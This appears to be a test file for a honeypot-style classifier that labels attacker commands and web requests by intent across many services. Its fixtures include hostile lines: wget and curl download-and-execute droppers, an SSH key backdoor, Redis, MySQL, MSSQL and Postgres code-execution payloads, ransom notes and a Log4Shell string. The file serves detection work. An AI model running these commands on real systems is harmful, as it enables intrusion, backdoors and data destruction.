import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { en } from '../src/i18n/en.ts'
import { meanings, tunnelAim } from '../src/meaning.ts'

describe('what a command means', () => {
  const shell: [string, string[]][] = [
    ['uname -a', ['machine']],
    ['cat /proc/cpuinfo | grep name | wc -l', ['processor']],
    ['cd /tmp; wget http://198.51.100.7/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh', ['fetch', 'execute', 'wipe']],
    ['/bin/busybox ECCHI', ['mirai']],
    ['echo "ssh-rsa AAAA" >> .ssh/authorized_keys', ['key']],
    ['enable', ['shell']],
    ['echo hello', []],
  ]
  for (const [line, expected] of shell) it(line, () => assert.deepEqual(meanings('ssh', 'command', line), expected))

  const redis: [string, string[]][] = [
    ['CONFIG SET dir /var/spool/cron', ['redisDir', 'schedule']],
    ['SLAVEOF 198.51.100.7 6379', ['redisReplica']],
    ['SLAVEOF NO ONE', []],
    ['module load ./exp.so', ['redisModule']],
  ]
  for (const [line, expected] of redis) it(line, () => assert.deepEqual(meanings('redis', 'command', line), expected))

  const others: [service: string, line: string, expected: string[]][] = [
    ['ftp', 'PORT 198,51,100,7,0,80', ['ftpBounce']],
    ['mysql', "SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf8.so'", ['sqlLibrary']],
    ['mysql', 'SHOW DATABASES', ['dataLook']],
    ['mysql', "INSERT INTO a (note) VALUES ('To recover your data pay 0.01 BTC')", ['ransom', 'dataPut']],
    ['mssql', "EXEC master..xp_cmdshell 'certutil -f http://198.51.100.7/a.exe'", ['sqlRun', 'fetch']],
    ['mssql', "EXEC xp_dirtree '\\\\203.0.113.9\\share', 1, 1", ['sqlShare']],
    ['postgresql', "COPY cmd FROM PROGRAM 'wget http://198.51.100.7/x'", ['sqlRun', 'fetch']],
    ['mongodb', 'shop {"dropDatabase":1}', ['dataWipe']],
    ['mongodb', 'admin {"listDatabases":1,"nameOnly":true}', ['dataLook']],
    ['kafka', 'Produce READ_ME your data is ours; curl http://198.51.100.9/pay.sh | sh', ['ransom', 'fetch']],
    ['mqtt', 'PUBLISH cmnd/washer/OtaUrl http://198.51.100.9/fw/evil.bin.gz', ['mqttFirmware']],
    ['mqtt', 'SUBSCRIBE stat/# 0', ['listenIn']],
    ['ldap', 'SEARCH base="dc=a,dc=example" scope=sub filter="(userPassword=*)"', ['ldapSecrets']],
    ['smtp', 'RCPT TO:<x@elsewhere.example>', ['mailTo']],
    ['imap', 'a6 SEARCH OR SUBJECT "invoice" TEXT "password"', ['mailSearch']],
    ['pop3', 'RETR 4', ['mailRead']],
    ['pop3', 'GET / HTTP/1.1', ['wrongDoor']],
    ['sip', 'INVITE sip:900972592000000@203.0.113.80', ['sipCall']],
    ['irc', 'NICK nmap', []],
    ['irc', 'TOPIC #b0ts :!sh wget http://198.51.100.9/i.sh -O- | sh', ['ircOrders', 'fetch']],
    ['rsync', 'rsync --server --sender -logDtpre.iLsfxCIvu . html/', ['fileFetch']],
    ['rsync', 'rsync --server -re.LsfxCIvu . html/', ['fileStore']],
    ['git', 'git-receive-pack /config host=203.0.113.80', ['gitPush']],
    ['pjl', '@PJL RDYMSG DISPLAY = "INSERT COIN"', ['printerWords']],
    ['dns', '. IN ANY +recurse +edns 9000', ['amplify']],
    ['dns', 'a.example IN AXFR', ['dnsZone']],
    ['tftp', 'RRQ startup-config octet', ['configHunt']],
    ['wins', 'register WPAD<20> 192.0.2.9', ['winsClaim']],
    ['x11', 'GetImage 0x50d 4x2', ['screenTake']],
    ['vnc', 'wget -q http://192.0.2.66/x.sh; sh x.sh', ['fetch', 'execute']],
    ['xmpp', "<iq type='get' id='r1'><query xmlns='jabber:iq:roster'/></iq>", ['xmppContacts']],
    ['zookeeper', 'multi delete /controller', ['dataWipe']],
    ['oracle', '(CONNECT_DATA=(COMMAND=service_register_NSGR))', ['oraclePoison']],
  ]
  for (const [service, line, expected] of others)
    it(`${service}: ${line}`, () => assert.deepEqual(meanings(service, 'command', line), expected))
})

describe('what a request is after', () => {
  const requests: [string, string[]][] = [
    ['GET /.env', ['secrets']],
    ['GET /.git/config', ['git']],
    ['POST /wp-login.php', ['wordpress']],
    ['GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', ['phpunit']],
    ['GET /?x=$\u007bjndi:ldap://198.51.100.7/a}', ['log4shell']],
    ['CONNECT example.com:443', ['proxy']],
    ['GET http://example.com/', ['proxy']],
    ['GET /', []],
  ]
  for (const [line, expected] of requests) it(line, () => assert.deepEqual(meanings('http', 'request', line), expected))
})

it('tells what a tunnel is for by where it leads', () => {
  assert.equal(tunnelAim('mx.example.org', 25), 'tunnelMail')
  assert.equal(tunnelAim('127.0.0.1', 6379), 'tunnelInside')
  assert.equal(tunnelAim('www.example.org', 443), 'tunnelWeb')
  assert.equal(tunnelAim('www.example.org', 4444), undefined)
})

it('has words for every meaning it can find, and looks only at the start of a flood', () => {
  const flood = `${'a '.repeat(2000)}wget`
  assert.deepEqual(meanings('ssh', 'command', flood), [])
  for (let n = 0; n < 2000; n++) {
    const line = Array.from({ length: n % 200 }, () => String.fromCharCode(Math.floor(Math.random() * 256))).join('')
    for (const service of ['ssh', 'redis', 'mssql', 'imap', 'constructor'])
      for (const action of ['command', 'request'])
        for (const meaning of meanings(service, action, line)) assert.ok(en.meanings[meaning])
  }
})
